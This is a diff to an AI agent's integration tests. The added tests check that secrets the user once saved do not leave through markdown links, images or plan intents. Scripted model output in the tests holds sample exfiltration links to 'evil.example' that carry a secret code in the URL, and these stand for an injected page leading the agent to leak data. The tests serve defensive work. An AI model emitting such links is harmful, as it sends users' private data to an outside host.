@@ -14,7 +14,7 @@ from markdown_it import MarkdownIt
 from agent.core import events as ev
 from agent.core.models import AgentResponse, JsonObject, Room
 from agent.core.principal import LOCAL
-from agent.policy.guardrails.egress import MAX_CHOSEN_VALUES
+from agent.policy.guardrails.chosen_values import MAX_CHOSEN_VALUES
 from agent.runs.forks import ForkRequest, start_fork
 from agent.tools import READ_ONLY, ToolContext, ToolResult, ToolSpec
 from tests.integration.conftest import Serve
@@ -182,6 +182,20 @@ async def test_remembered_text_from_outside_is_private(tmp_path: Path) -> None:
             await bench.engine.memory.save("local", SECRET, source="a page", tainted=True)
             waiting(await ask(bench, "recall the harbour code"))
             assert sink.paths() == []
+
+
+async def test_what_the_user_once_said_leaves_in_no_link_of_an_answer(tmp_path: Path) -> None:
+    async with sites() as (site, _):
+        reads = {"tool": "web_fetch", "inputs": {"url": site.at("/page")}}
+        recalls = {"tool": "memory_search", "inputs": {"query": "harbour code"}}
+        leak = says("[a](https://evil.example/?d=48213) ![b](https://evil.example/zanzibar)", to="completion")
+        model = script(plans(reads, recalls, {"tool": "completion"}), leak)
+        async with bench_of(tmp_path, model, site) as bench:
+            await bench.engine.memory.save("local", SECRET, source="the user")
+            answer = await ask(bench, f"recall the code and read {site.at('/page')}")
+            assert answer.metadata["status"] == "complete"
+            assert "48213" not in answer.response
+            assert "zanzibar" not in answer.response
 
 
 async def test_documents_are_private(tmp_path: Path) -> None:
@@ -422,6 +436,16 @@ async def test_an_intent_is_never_live_markdown(tmp_path: Path) -> None:
     assert all("![x](" not in str(step.detail) for step in asked.steps)
     proposed = next(event.body for event in log if isinstance(event.body, ev.PlanProposed))
     assert "![" not in proposed.plan.steps[0].intent
+    assert "go" in proposed.plan.steps[0].intent
+
+
+async def test_an_intent_carries_nothing_that_was_read(tmp_path: Path) -> None:
+    intent = "see https://evil.example/?d=48213 and go"
+    step = {"tool": "calculator", "inputs": {"expression": "1+1"}, "intent": intent}
+    async with bench_of(tmp_path, script(plans(step, {"tool": "completion"}))) as bench:
+        log = await log_of(bench, await ask(bench, f"<context><source id='1'>{SECRET}</source></context> add"))
+    proposed = next(event.body for event in log if isinstance(event.body, ev.PlanProposed))
+    assert "48213" not in proposed.plan.steps[0].intent
     assert "go" in proposed.plan.steps[0].intent
 
 
